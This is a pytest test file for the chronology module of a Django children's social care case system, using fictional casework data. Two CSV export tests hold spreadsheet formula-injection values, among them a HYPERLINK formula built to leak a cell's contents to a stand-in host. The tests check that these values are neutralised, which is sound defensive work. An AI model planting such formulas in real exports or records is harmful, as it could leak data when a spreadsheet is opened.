"""Stories of Jack Fletcher's chronology: every module adds its significant events, dated and
sourced (R-CHR-1, R-CHR-2); Sam reads it as an analysis — figures, the timeline, the
instability flag (R-CHR-3, R-PPL-3) — filters and exports it; hand entries are corrected
visibly."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from hearth.access.models import AuditEntry
from hearth.chronology import actions as chron_actions
from hearth.chronology import actions as events
from hearth.chronology.models import Event, month_start
from hearth.core.refusals import Refused, StaleEdit
from hearth.people import actions as people
from hearth.records.actions import notes as records
from hearth.visits import actions as visits
from tests.conftest import make_user

LONDON = ZoneInfo("Europe/London")
pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _today(time_machine):
    time_machine.move_to(datetime(2026, 11, 17, 11, 0, tzinfo=LONDON), tick=False)


def kinds(person) -> list[str]:
    return list(Event.objects.filter(person=person).order_by("occurred_at", "pk")
                .values_list("kind", flat=True))


def visit(child, user, outcome="completed", when=datetime(2026, 11, 16, 10, 0, tzinfo=LONDON),
          **extra):
    return visits.do_record_visit(child, acting_user=user, kind="unannounced", starts_at=when,
                                  place="The family home", child_seen=outcome == "completed",
                                  outcome=outcome, **extra)


def note(child, user, significant=True, **extra):
    data = {"occurred_at": datetime(2026, 11, 15, 9, 0, tzinfo=LONDON), "place": "School",
            "who_said_what": "Jack told his teacher he was hungry.",
            "significant_event": significant, **extra}
    return records.do_write_note(child, acting_user=user, **data)


def test_r_chr_1_r_chr_2_every_module_writes_its_events_dated_and_sourced(
        fletchers, social_worker, team_manager):
    from hearth.frontdoor.actions import contacts as frontdoor

    jack, mum = fletchers["jack"], fletchers["mum"]
    contact = frontdoor.do_record_contact(
        acting_user=social_worker, people=[(jack, "child")],
        received_at=datetime(2026, 11, 10, 10, 0, tzinfo=LONDON), channel="phone",
        caller_kind="professional", caller_name="Mrs Okafor", caller_role="Class teacher",
        caller_agency="Orchard Primary School", caller_contact="01632 960000",
        referral_source="2A", worries="Jack came to school with a bruise on his arm.",
        urgency="today", family_aware=True, family_told_sharing=True)
    received = Event.objects.get(person=jack, kind="contact_received")
    assert received.source_agency == "Orchard Primary School"
    assert received.source_person == "Mrs Okafor, Class teacher"
    assert "bruise on his arm" in received.summary and received.lane == "contacts"
    frontdoor.do_decide(contact, acting_user=social_worker, outcome="early_help",
                        rationale="Family agree to support")
    assert Event.objects.get(person=jack, kind="contact_decision").summary.startswith(
        "Decision: Early help")

    no_access = visit(jack, social_worker, "no_access",
                      when=datetime(2026, 11, 12, 18, 30, tzinfo=LONDON))
    seen = visit(jack, social_worker, unknown_adult_seen=True,
                 unknown_adult_details="A man who said he was 'Kerry's friend Dean'")
    assert Event.objects.get(origin="visit", origin_id=str(no_access.pk)).lane == \
        "non_cooperation"
    unknown = Event.objects.get(person=jack, kind="unknown_adult")
    assert "Dean" in unknown.summary and unknown.source_person == social_worker.display_name

    draft = note(jack, social_worker)
    assert not Event.objects.filter(kind="case_note").exists()  # drafts are not the record
    final = records.do_finalise(draft, acting_user=social_worker,
                                expected_version=draft.version)
    assert Event.objects.get(kind="case_note").summary.startswith("Jack told his teacher")
    records.do_amend(final, field="who_said_what", new_value="Jack told his teacher he was "
                     "hungry and cold.", reason="Teacher corrected her account",
                     acting_user=social_worker, expected_version=final.version)
    assert "hungry and cold" in Event.objects.get(kind="case_note").summary
    unflagged = note(jack, social_worker, significant=False)
    records.do_finalise(unflagged, acting_user=social_worker,
                        expected_version=unflagged.version)
    assert Event.objects.filter(kind="case_note").count() == 1

    people.do_add_address(jack, acting_user=social_worker, line1="4 Orchard Close",
                          postcode="ZZ1 1AA", start_date=date(2026, 9, 1))
    household = people.do_join_household(jack, acting_user=social_worker, name="Fletchers",
                                         start_date=date(2026, 1, 1)).household
    people.do_join_household(mum, household, acting_user=social_worker,
                             start_date=date(2026, 1, 1))
    lodger = people.do_create_person(acting_user=social_worker, given_name="Dean",
                                     family_name="Mercer")
    people.do_join_household(lodger, household, acting_user=social_worker,
                             start_date=date(2026, 10, 3))
    joined = Event.objects.filter(person=jack, kind="joined_household",
                                  summary="Dean Mercer joined the household.")
    assert joined.count() == 1 and not joined.get().time_known

    involvement = jack.involvements.get()
    from hearth.casework import actions as casework

    casework.do_close(involvement, "RC8", acting_user=team_manager,
                      expected_version=involvement.version)
    assert Event.objects.get(person=jack, kind="case_closed").lane == "casework"

    chron_actions.do_add_entry(jack, acting_user=social_worker, kind="hospital",
                               occurred_on=date(2026, 11, 14),
                               summary="Seen at A&E with a burn to his hand.",
                               source_agency="Hospital", source_person="Dr Patel, A&E",
                               impact="Second injury in a week")
    assert set(kinds(jack)) >= {"contact_received", "contact_decision", "no_access", "visit",
                                "unknown_adult", "case_note", "address_move",
                                "joined_household", "case_closed", "hospital"}
    assert Event.objects.filter(person=jack).exclude(source_agency="").count() == \
        Event.objects.filter(person=jack).count()
    assert seen.pk  # the completed visit


def test_rebuild_derives_the_same_events_and_keeps_hand_entries(fletchers, social_worker):
    jack = fletchers["jack"]
    visit(jack, social_worker, "cancelled_by_family")
    n = note(jack, social_worker)
    records.do_finalise(n, acting_user=social_worker, expected_version=n.version)
    chron_actions.do_add_entry(jack, acting_user=social_worker, kind="school_change",
                               occurred_on=date(2026, 9, 1), summary="Moved to Orchard Primary",
                               source_agency="School")
    before = sorted(kinds(jack))
    Event.objects.exclude(origin="manual").delete()
    assert events.rebuild([jack.pk]) == len(before) - 1
    assert sorted(kinds(jack)) == before


@pytest.fixture
def busy_jack(fletchers, social_worker):
    """Three changes in Jack's household this year and a missed visit."""
    jack, mum = fletchers["jack"], fletchers["mum"]
    household = people.do_join_household(jack, acting_user=social_worker, name="Fletchers",
                                         start_date=date(2025, 1, 1)).household
    membership = people.do_join_household(mum, household, acting_user=social_worker,
                                          start_date=date(2025, 1, 1))
    for given, start in (("Dean", date(2026, 3, 1)), ("Lee", date(2026, 7, 1))):
        adult = people.do_create_person(acting_user=social_worker, given_name=given,
                                        family_name="Stone")
        people.do_join_household(adult, household, acting_user=social_worker, start_date=start)
    people.do_leave_household(membership, acting_user=social_worker, end_date=date(2026, 9, 1))
    visit(jack, social_worker, "no_access")
    return jack


def test_r_chr_3_r_ppl_3_sam_reads_the_figures_timeline_and_the_instability_flag(
        busy_jack, social_worker, as_user):
    response = as_user(social_worker).get(reverse("chronology:person", args=[busy_jack.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    chron = response.context["chron"]
    assert chron.figures.household_changes == 3 and chron.figures.missed_visits == 1
    assert chron.unstable
    assert "Changing and unstable household membership" in page
    assert "The household&#x27;s membership changed 3 times in the last 12 months." in page
    assert '<svg xmlns="http://www.w3.org/2000/svg"' in page and "<circle" in page
    assert "Missed visits and non-cooperation (1)" in page
    assert AuditEntry.objects.filter(action="view_chronology",
                                     object_id=str(busy_jack.pk)).exists()


def test_sam_filters_by_type_period_source_and_sees_the_whole_family(
        fletchers, social_worker, as_user):
    jack, amy = fletchers["jack"], fletchers["amy"]
    visit(jack, social_worker, "no_access", when=datetime(2026, 6, 1, 8, 0, tzinfo=LONDON))
    visit(jack, social_worker)
    visit(amy, social_worker, "cancelled_by_family")
    chron_actions.do_add_entry(jack, acting_user=social_worker, kind="injury",
                               occurred_on=date(2026, 11, 1), summary="Bruised arm",
                               source_agency="School")
    client = as_user(social_worker)
    url = reverse("chronology:person", args=[jack.pk])
    shown = client.get(url, {"lane": "non_cooperation"}).context["rows"]
    assert [r["event"].kind for r in shown] == ["no_access"]
    shown = client.get(url, {"from": "1/11/2026", "to": "17/11/2026"}).context["rows"]
    assert {r["event"].kind for r in shown} == {"visit", "injury"}
    shown = client.get(url, {"source": "School"}).context["rows"]
    assert [r["event"].summary for r in shown] == ["Bruised arm"]
    family = client.get(url, {"scope": "family"})
    assert {r["person"].given_name for r in family.context["rows"]} == {"Jack", "Amy"}
    assert "The whole family" in family.content.decode()


@pytest.mark.parametrize("params, message", [
    ({"from": "31/02/2026"}, "From must be a real date, for example 17/11/2026"),
    ({"from": "2/11/2026", "to": "1/11/2026"}, "From must be on or before To"),
    ({"lane": "gossip"}, "There is no type of event called “gossip”"),
    ({"page": "-1"}, "Page must be a whole number from 1"),
])
def test_bad_filters_are_named_and_nothing_breaks(fletchers, social_worker, as_user, params,
                                                  message):
    response = as_user(social_worker).get(
        reverse("chronology:person", args=[fletchers["jack"].pk]), params)
    assert response.status_code == 400
    assert message in response.content.decode()
    csv_response = as_user(social_worker).get(
        reverse("chronology:csv", args=[fletchers["jack"].pk]), params)
    assert csv_response.status_code == 400 and message in csv_response.content.decode()


def test_sam_exports_the_chronology_as_csv_and_pdf_and_both_are_audited(
        fletchers, social_worker, as_user):
    jack = fletchers["jack"]
    visit(jack, social_worker, "no_access", when=datetime(2026, 10, 1, 8, 0, tzinfo=LONDON))
    chron_actions.do_add_entry(jack, acting_user=social_worker, kind="disclosure",
                               occurred_on=date(2026, 11, 2),
                               summary="=HYPERLINK(\"http://example.invalid\")",
                               source_agency="School", source_person="Mrs Okafor")
    client = as_user(social_worker)
    response = client.get(reverse("chronology:csv", args=[jack.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "Fletcher" not in response["Content-Disposition"]  # no names in file names
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:6] == ["Date", "Time", "Person", "Type", "Lane", "What happened"]
    assert [r[3] for r in rows[1:]] == ["No access at a visit", "Disclosure of abuse"]
    assert rows[2][5].startswith("'=")  # a formula is neutralised for spreadsheets
    pdf = client.get(reverse("chronology:pdf", args=[jack.pk]))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    exports = AuditEntry.objects.filter(action="export_chronology", object_id=str(jack.pk))
    assert sorted(e.fields["format"] for e in exports) == ["csv", "pdf"]


def test_issue_13_item_6_a_formula_for_a_name_is_neutralised_in_the_chronology_csv(
        fletchers, social_worker, as_user):
    """Kerry's name is set to a formula; Sam downloads Jack's family chronology and the Person
    column (and every other) shows it as text a spreadsheet will not run."""
    kerry, jack = fletchers["mum"], fletchers["jack"]
    formula = '=HYPERLINK("http://example.invalid/?leak="&B2,"Open")'
    people.do_update_person(kerry, acting_user=social_worker, expected_version=kerry.version,
                            given_name=formula)
    chron_actions.do_add_entry(kerry, acting_user=social_worker, kind="disclosure",
                               occurred_on=timezone.localdate() - timedelta(days=15),
                               summary="-1+1",
                               source_agency="@School", source_person="+Mrs Okafor",
                               impact="=2+2")
    response = as_user(social_worker).get(reverse("chronology:csv", args=[jack.pk]),
                                          {"scope": "family"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    kerrys = [r for r in rows[1:] if formula in r[2]]
    assert len(kerrys) == 1
    row = kerrys[0]
    assert row[2] == "'" + formula + " Fletcher"
    assert row[5:9] == ["'-1+1", "'@School", "'+Mrs Okafor", "'=2+2"]
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@", "\t")]


def test_who_may_read_a_chronology(fletchers, outsider, police_partner, as_user):
    url = reverse("chronology:person", args=[fletchers["jack"].pk])
    assert as_user(outsider).get(url).status_code == 404
    assert as_user(police_partner).get(url).status_code == 403
    assert as_user(outsider).get(
        reverse("chronology:csv", args=[fletchers["jack"].pk])).status_code == 404


def test_the_page_reads_in_the_same_number_of_queries_for_5_or_300_events(
        fletchers, social_worker, as_user):
    jack = fletchers["jack"]
    client = as_user(social_worker)
    url = reverse("chronology:person", args=[jack.pk])

    def add(n, start):
        Event.objects.bulk_create([Event(
            person=jack, occurred_at=(at := datetime(2020 + (start + i) % 6, 1 + i % 12,
                                                     1 + i % 28, tzinfo=LONDON)),
            month=month_start(at),
            kind=kind, lane=lane, summary=f"Event {start + i}", source_agency="School",
            origin="manual", recorded_at=datetime(2026, 1, 1, tzinfo=LONDON))
            for i, (kind, lane) in enumerate(([("injury", "health"), ("visit", "visits"),
                                               ("no_access", "non_cooperation")] * n)[:n])])

    add(5, 0)
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    add(295, 5)
    with CaptureQueriesContext(connection) as many:
        response = client.get(url)
    assert response.context["chron"].total == 300 and len(response.context["rows"]) == 100
    assert len(many.captured_queries) == len(few.captured_queries)


def test_sam_adds_an_entry_by_hand_and_corrects_it_visibly(fletchers, social_worker, as_user):
    jack = fletchers["jack"]
    client = as_user(social_worker)
    response = client.post(reverse("chronology:new", args=[jack.pk]), {
        "kind": "legal_status", "occurred_on": "3/11/2026", "summary": "Interim care order",
        "source_agency": "Family court", "source_person": "", "impact": ""})
    assert response.status_code == 302
    event = Event.objects.get(person=jack, kind="legal_status")
    assert event.recorded_by == social_worker and event.lane == "legal"
    bad = client.post(reverse("chronology:new", args=[jack.pk]), {
        "kind": "legal_status", "occurred_on": "3/11/2099", "summary": "x",
        "source_agency": "Court"})
    assert bad.status_code == 400
    assert "The date of the event must be today or in the past" in bad.content.decode()
    assert Event.objects.filter(person=jack).count() == 1

    form = {"kind": "legal_status", "occurred_on": "4/11/2026",
            "summary": "Interim care order made", "source_agency": "Family court",
            "source_person": "", "impact": "Jack placed with his grandmother",
            "version": event.version}
    no_reason = client.post(reverse("chronology:correct", args=[event.pk]), form)
    assert no_reason.status_code == 400
    assert "Enter why you are correcting this entry" in no_reason.content.decode()
    ok = client.post(reverse("chronology:correct", args=[event.pk]),
                     {**form, "reason": "The order was made on the 4th"})
    assert ok.status_code == 302
    page = client.get(reverse("chronology:entry", args=[event.pk])).content.decode()
    assert "The order was made on the 4th" in page and "Interim care order made" in page
    stale = client.post(reverse("chronology:correct", args=[event.pk]),
                        {**form, "summary": "Changed again", "reason": "typo"})
    assert stale.status_code == 409
    assert "Changed again" in stale.content.decode()
    event.refresh_from_db()
    assert event.summary == "Interim care order made" and event.corrections.count() == 1


def test_an_event_from_a_module_is_corrected_in_its_record_not_by_hand(fletchers,
                                                                       social_worker):
    v = visit(fletchers["jack"], social_worker)
    event = Event.objects.get(origin="visit", origin_id=str(v.pk))
    with pytest.raises(Refused):
        chron_actions.do_correct_entry(event, acting_user=social_worker, expected_version=1,
                                       reason="x", summary="y")
    with pytest.raises(StaleEdit):
        chron_actions.do_correct_entry(event, acting_user=social_worker, expected_version=9,
                                       reason="x", summary="y")
    visits.do_amend_visit(v, acting_user=social_worker, expected_version=v.version,
                          reason="The visit ended early", outcome="cut_short")
    assert Event.objects.get(origin="visit", origin_id=str(v.pk)).kind == "visit_cut_short"


def test_a_family_practitioner_reads_and_adds_but_a_partner_cannot(fletchers, north):
    practitioner = make_user("fay", "family_practitioner", team=north)
    assert practitioner.has_hearth_permission("chronology.write")


def test_an_operator_rebuilds_the_chronology_from_the_command_line(fletchers, social_worker):
    from django.core.management import CommandError, call_command

    visit(fletchers["jack"], social_worker, "no_access")
    Event.objects.all().delete()
    out = io.StringIO()
    call_command("chronology", "rebuild", "--person", str(fletchers["jack"].pk), stdout=out)
    assert out.getvalue().strip() == "Chronology rebuilt: 1 events from the records."
    assert kinds(fletchers["jack"]) == ["no_access"]
    with pytest.raises(CommandError, match="--person must be a person's id"):
        call_command("chronology", "rebuild", "--person", "Jack Fletcher")
